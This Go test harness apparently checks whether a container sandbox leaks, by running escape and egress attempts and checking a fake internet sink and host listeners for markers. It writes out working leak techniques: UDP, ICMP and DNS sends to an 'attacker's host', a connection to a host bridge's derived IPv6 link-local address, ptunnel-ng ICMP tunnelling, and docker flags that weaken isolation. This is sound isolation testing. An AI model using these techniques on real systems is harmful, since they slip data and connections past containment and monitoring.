package main

import (
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"
	"os"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/av-project/av/scripts/fakenet"
)

// attack is one try to get out of the box, or to get at what holds it.
type attack struct {
	id, try, with string
	// line is what is run. $M in it is this try's marker, $X the same in hexadecimal, $P a port and $K a magic number of
	// its own; $S is the attacker's host, $D the name server, $A the API, $GW the host's end of the network.
	line string
	// sink says which record decides: what arrived, and not the word of the program that tried. Where there is none the
	// try is for a right, and decided by whether it is given.
	sink sink
	// mark is what the sink sees of a try; nil is $M.
	mark func(mark) string
	// control names the container in which the same line gets through: one that lacks the wall.
	control string
	// rootMay: root with --root is meant to be given it.
	rootMay bool
	// lacks says why this machine cannot try it; nil where every machine can.
	lacks func() string
}

type sink string

const (
	right    sink = ""
	internet sink = "the fake internet"
	host     sink = "the host's listeners"
	queries  sink = "the queries that leave this machine"
)

// mark is what tells one try from all others.
type mark struct {
	text  string
	port  int
	magic uint32
}

func newMark() mark {
	m := newMarker()
	return mark{m, 10000 + int(binary.BigEndian.Uint16([]byte(m)[2:]))%20000, binary.BigEndian.Uint32([]byte(newMarker()))}
}

func (a attack) seenAs(m mark) string {
	if a.mark == nil {
		return m.text
	}
	return a.mark(m)
}

// The controls, by name, as flags of docker run.
const (
	ordinary   = "an ordinary container"
	inner      = "a container on an internal network"
	innerSix   = "a container on an internal network, with IPv6"
	hostNet    = "a container on the host's network"
	netAdmin   = "a container with NET_ADMIN"
	tunnelling = "a container with NET_ADMIN and /dev/net/tun"
	sysAdmin   = "a container with SYS_ADMIN and without seccomp"
	generous   = "a container that is handed the host's sockets"
)

func (w *attackWorld) control(name string) []string {
	switch name {
	case inner:
		return []string{"--network", w.inner, "--add-host", "host.docker.internal:" + w.innerBase.Addr().Next().String()}
	case innerSix:
		return []string{"--network", w.inner, "--sysctl", "net.ipv6.conf.all.disable_ipv6=0"}
	case withIPv6:
		return []string{"--network", w.six}
	case hostNet:
		return []string{"--network", "host"}
	case netAdmin:
		return []string{"--network", w.open, "--cap-add", "NET_ADMIN"}
	case tunnelling:
		return []string{"--network", w.open, "--cap-add", "NET_ADMIN", "--device", "/dev/net/tun"}
	case sysAdmin: // not --privileged: a host may not have every capability to give
		return []string{"--network", w.open, "--cap-add", "SYS_ADMIN", "--cap-add", "NET_ADMIN", "--security-opt", "seccomp=unconfined",
			"--security-opt", "apparmor=unconfined", "--security-opt", "systempaths=unconfined"}
	case hostPids:
		return []string{"--network", w.open, "--pid", "host", "--cap-add", "SYS_PTRACE", "--security-opt", "apparmor=unconfined"}
	case readSearch:
		return []string{"--network", w.open, "--cap-add", "DAC_READ_SEARCH"}
	case generous:
		return []string{"--network", w.open, "--volume", "/var/run:/var/run", "--env", "SSH_AUTH_SOCK=/run/agent"}
	}
	return []string{"--network", w.open}
}

// datagram sends $M with python, which every family, protocol and port is the same to.
func datagram(family, protocol, to string) string {
	return fmt.Sprintf(`python3 -c 'import os, socket as s; s.socket(s.%s, s.SOCK_DGRAM, %s).sendto(os.environ["M"].encode(), (%s))'`, family, protocol, to)
}

// pingSocket sends an echo request without any right: the kernel writes the header for it.
const pingSocket = `python3 -c 'import os, socket as s; s.socket(s.AF_INET, s.SOCK_DGRAM, s.IPPROTO_ICMP).sendto(bytes([8, 0, 0, 0, 0, 0, 0, 1]) + os.environ["M"].encode(), (os.environ["S"], 0))'`

// linkLocal connects to the address that a bridge of the host's makes of its own hardware
// address (RFC 4291, appendix A), which is in the table of neighbours.
const linkLocal = `python3 -c '
import os, socket as s, time
try: s.socket(s.AF_INET, s.SOCK_DGRAM).sendto(b"", (os.environ["GW"], 9))
except OSError: pass # behind walls
for _ in range(50):
    macs = [l.split()[3] for l in open("/proc/net/arp").readlines()[1:] if l.split()[0] == os.environ["GW"] and l.split()[2] != "0x0"]
    if macs: break
    time.sleep(0.1)
b = bytearray.fromhex(macs[0].replace(":", "")); b[0] ^= 2
a = s.inet_ntop(s.AF_INET6, bytes.fromhex("fe80") + bytes(6) + bytes(b[:3]) + bytes.fromhex("fffe") + bytes(b[3:]))
for _ in range(5): # an address of ones own is tried out for a second or two before it counts
    try:
        c = s.create_connection((a + "%eth0", int(os.environ["TCP"])), 3); c.sendall(os.environ["M"].encode()); break
    except OSError: time.sleep(1)'`

// question is the name $M.leak.test as it stands in a DNS query.
const question = `b"\0\1\1\0\0\1\0\0\0\0\0\0\x0c" + os.environ["M"].encode() + b"\4leak\4test\0\0\1\0\1"`

func toPort(m mark) string { return fmt.Sprintf("%s:%d", fakenet.SinkAddr, m.port) }
func magic(m mark) string {
	return string(binary.BigEndian.AppendUint32(nil, m.magic))
}

// ptunnel forwards a connection of its own; the magic number is in the payload of each ping that it sends.
func ptunnel(flag string) string {
	return "cd /tmp; ptunnel-ng -p $S -r192.0.2.9 -R$P -l$P -m $K -o/tmp/ptunnel.$P " + flag + " & echo hello | socat -t 5 - TCP:127.0.0.1:$P,retry=20,interval=0.2; kill %1"
}

func needs(path string) func() string {
	return func() string {
		if _, err := os.Stat(path); err != nil {
			return err.Error()
		}
		return ""
	}
}

// needsSocket asks for a protocol that a kernel may be without.
func needsSocket(kind, protocol int) func() string {
	return func() string {
		fd, err := syscall.Socket(syscall.AF_INET, kind, protocol)
		if err != nil {
			return fmt.Sprintf("this kernel has no protocol %d: %v", protocol, err)
		}
		syscall.Close(fd)
		return ""
	}
}

// prelude sets what the lines refer to.
func (w *attackWorld) prelude() string {
	return fmt.Sprintf(`export S=%s S6=%s D=%s A=%s API=%s TCP=%d UDP=%d ABSTRACT=%s VICTIM=%d VICTIM_NAME=%s
		export GW=$(python3 -c 'import ipaddress, subprocess
for line in subprocess.run(["ip", "-4", "-o", "addr", "show", "dev", "eth0"], capture_output=True, text=True).stdout.splitlines():
    print(ipaddress.ip_interface(line.split()[3]).network[1])')
`, fakenet.SinkAddr, fakenet.SinkAddr6, fakenet.DNSAddr, fakenet.APIAddr, fakenet.APIName, w.host.tcp, w.host.udp, w.host.abstract, w.victim, w.victimName)
}

// script tries everything: first, one after the other, what might tear a hole, then at once what would go through it. limit
// ends a try that hangs.
func (w *attackWorld) script(all []attack, marks []mark, limit time.Duration) string {
	var first, then strings.Builder
	for i, a := range all {
		run := fmt.Sprintf("M=%s P=%d K=%08x X=%x timeout -k 1 %d bash -c %s >/tmp/said.%d 2>&1 </dev/null",
			marks[i].text, marks[i].port, marks[i].magic, marks[i].text, int(limit.Seconds()), quote(a.line), i)
		if a.sink == right {
			fmt.Fprintf(&first, "%s && echo given.%d.\n", run, i)
		} else {
			fmt.Fprintf(&then, "%s &\n", run)
		}
	}
	return w.prelude() + first.String() + then.String() + "wait\n" +
		"for f in /tmp/said.*; do echo \"[${f##*.}] $(tail -n 1 $f | cut -c -160)\"; done\n"
}

// got tells what a try got, from the sink's record and the script's output; "" is nothing.
func (w *attackWorld) got(a attack, i int, m mark, out string) string {
	switch a.sink {
	case right:
		if strings.Contains(out, fmt.Sprintf("given.%d.\n", i)) {
			return "it was given"
		}
		return ""
	case host:
		return w.host.seen(a.seenAs(m))
	case queries:
		return w.wire.seen(a.seenAs(m))
	}
	if seen := w.internet.Sinks().Seen(a.seenAs(m)); len(seen) > 0 {
		return fmt.Sprintf("the sink saw %s to %s", seen[0].Kind, seen[0].To)
	}
	return ""
}

// settle returns when what was sent until now is in the records.
func (w *attackWorld) settle(t *testing.T) {
	t.Helper()
	if err := w.internet.Settle(t.Context()); err != nil {
		t.Fatal(err)
	}
	w.host.settle(t)
	// The tap is behind every packet that has gone: one more query, which the fake internet has, is seen last.
	marker := newMarker()
	conn, err := net.Dial("udp4", netip.AddrPortFrom(fakenet.DNSAddr, 53).String())
	if err == nil {
		_, err = conn.Write([]byte(marker))
		conn.Close()
	}
	if err != nil {
		t.Fatal(err)
	}
	until(t, "the tap to see our own query", 10*time.Second, func() bool { return w.wire.seen(marker) != "" })
}
